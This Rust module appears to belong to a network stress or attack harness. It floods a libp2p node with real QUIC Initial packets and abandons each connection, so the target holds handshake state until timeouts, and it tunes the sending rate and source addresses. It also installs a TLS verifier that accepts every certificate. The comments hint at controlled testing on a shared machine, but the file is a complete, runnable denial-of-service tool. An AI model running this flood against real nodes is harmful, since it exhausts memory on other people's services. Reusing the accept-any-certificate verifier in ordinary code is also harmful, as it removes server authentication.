//! QUIC Initial packets from fresh connection ids, never followed up: each makes a node
//! without address validation start a TLS handshake and keep its state until it times out.
//!
//! The packets are real: quinn-proto's sans-IO client builds each one (a QUIC v1 Initial
//! carrying a TLS 1.3 ClientHello offering ALPN `libp2p`, padded to 1200 bytes), we send the
//! first datagram and drop the connection without a word, so nothing ever closes it.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{ClientConfig, Endpoint, EndpointConfig};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{DigitallySignedStruct, SignatureScheme};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use super::Target;
use super::wire::{Counters, source_ip};

/// Tasks sending Initials, each from its own source address.
const SENDERS: u64 = 2;
/// Initials each sender sends per second at most: 5,000 a second in all, far below what one
/// core can build, so that the flood is the same whatever the attacker's build and a node
/// that keeps state per Initial (rust-libp2p kept about 17 KiB each in a trial run) cannot
/// take the whole shared machine's memory in one run.
const RATE: u32 = 2500;
/// Initials built by one quinn-proto endpoint before a fresh one replaces it (it keeps a
/// little state per connection we abandon).
const PER_ENDPOINT: u32 = 1000;

/// Sends Initial packets from [`SENDERS`] sockets, [`RATE`] a second each, until dropped.
pub async fn initial_flood(target: Target, counters: Arc<Counters>) {
    let mut tasks = JoinSet::new();
    for sender in 0..SENDERS {
        let (target, counters) = (target.clone(), Arc::clone(&counters));
        tasks.spawn(async move {
            if let Err(error) = send_initials(sender, target.quic, &counters).await {
                eprintln!("quic-initial-flood sender {sender}: {error:#}");
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

async fn send_initials(sender: u64, node: SocketAddr, counters: &Counters) -> anyhow::Result<()> {
    let socket = UdpSocket::bind((source_ip(sender), 0)).await?;
    let config = client_config()?;
    let mut buffer = Vec::with_capacity(1500);
    let start = Instant::now();
    let mut sent: u64 = 0;
    loop {
        let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
        for _ in 0..PER_ENDPOINT {
            // Keep to the rate: wait until this packet's time has come.
            let due = start + Duration::from_secs_f64(sent as f64 / f64::from(RATE));
            tokio::time::sleep_until(due.into()).await;
            sent += 1;
            let now = Instant::now();
            let (_, mut connection) = endpoint.connect(now, config.clone(), node, "libp2p")?;
            buffer.clear();
            let transmit = connection
                .poll_transmit(now, 1, &mut buffer)
                .context("no Initial to send")?;
            socket.send_to(&buffer[..transmit.size], node).await?;
            Counters::add(&counters.connections, 1);
            Counters::add(&counters.units, 1);
            Counters::add(&counters.bytes, transmit.size as u64);
        }
    }
}

/// A TLS 1.3 client offering ALPN `libp2p`. It never sees the server's certificate (we
/// never read an answer), so it accepts any.
fn client_config() -> anyhow::Result<ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut tls = rustls::ClientConfig::builder_with_provider(Arc::clone(&provider))
        .with_protocol_versions(&[&rustls::version::TLS13])?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyCertificate(provider)))
        .with_no_client_auth();
    tls.alpn_protocols = vec![b"libp2p".to_vec()];
    Ok(ClientConfig::new(Arc::new(QuicClientConfig::try_from(
        tls,
    )?)))
}

/// Accepts every server certificate: the flood stops at the first packet.
#[derive(Debug)]
struct AnyCertificate(Arc<rustls::crypto::CryptoProvider>);

impl ServerCertVerifier for AnyCertificate {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
